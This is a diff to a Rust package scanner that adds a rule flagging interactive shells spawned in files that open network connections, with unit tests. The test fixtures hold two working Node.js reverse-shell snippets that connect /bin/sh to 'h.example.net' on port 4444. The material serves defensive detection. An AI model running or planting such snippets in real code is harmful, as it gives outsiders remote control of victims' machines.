@@ -28,7 +28,26 @@ diligence_finding::declare_rule! {
 
 /// One finding per reverse-shell command in a spawning or networking file.
 pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
-    per_signal(p, Kind::ReverseShell, |f, s| {
+    let mut out = per_signal(p, Kind::InteractiveShell, |f, s| {
+        // An interactive shell in a file that opens sockets: its stdio is the socket.
+        if !f.has(Kind::Network) {
+            return None;
+        }
+        let msg = format!(
+            "{} spawned in a file that opens network connections",
+            s.detail
+        );
+        Some(finding(
+            &REVERSE_SHELL,
+            REVERSE_SHELL.default_severity,
+            f,
+            s,
+            Locality::File,
+            msg,
+            chain(p, f, s, &[Kind::Network]),
+        ))
+    });
+    out.extend(per_signal(p, Kind::ReverseShell, |f, s| {
         let loc = locality(
             p,
             f,
@@ -48,7 +67,8 @@ pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
             msg,
             chain(p, f, s, &[Kind::Spawn, Kind::Endpoint]),
         ))
-    })
+    }));
+    out
 }
 
 #[cfg(test)]
@@ -89,6 +109,21 @@ mod tests {
             (
                 "r.js",
                 "const net = require('net'), cp = require('child_process');\nconst c = net.connect(4444, 'h.example.net', () => {\n  const sh = cp.spawn('/bin/sh', []);\n  c.pipe(sh.stdin); sh.stdout.pipe(c);\n});\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/reverse-shell"),
+            vec![("r.js".to_string(), 3)]
+        );
+    }
+
+    #[test]
+    fn positive_interactive_shell_next_to_socket() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "r.js",
+                "const net = require('net');\nconst cp = require('child_process');\nconst sh = cp.spawn('/bin/sh', ['-i']);\nconst c = new net.Socket();\nc.connect(4444, 'h.example.net', function () { c.pipe(sh.stdin); });\n",
             ),
         ]);
         assert_eq!(
